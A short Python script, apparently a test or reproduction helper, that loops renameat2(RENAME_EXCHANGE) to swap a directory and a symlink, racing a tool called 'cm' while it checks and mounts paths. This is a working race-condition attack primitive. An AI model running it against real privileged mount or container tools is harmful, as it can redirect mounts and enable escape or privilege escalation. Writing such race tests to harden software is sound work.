# Swaps two paths with renameat2(RENAME_EXCHANGE) in a loop until killed: the race of a directory
# against a symlink that a hostile container (or process) runs while cm checks and mounts.
# usage: python3 exchange.py PATH_A PATH_B
import ctypes
import sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
a = sys.argv[1].encode()
b = sys.argv[2].encode()
if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
    sys.exit("renameat2: errno %d" % ctypes.get_errno())
print("racing", flush=True)
while True:
    libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
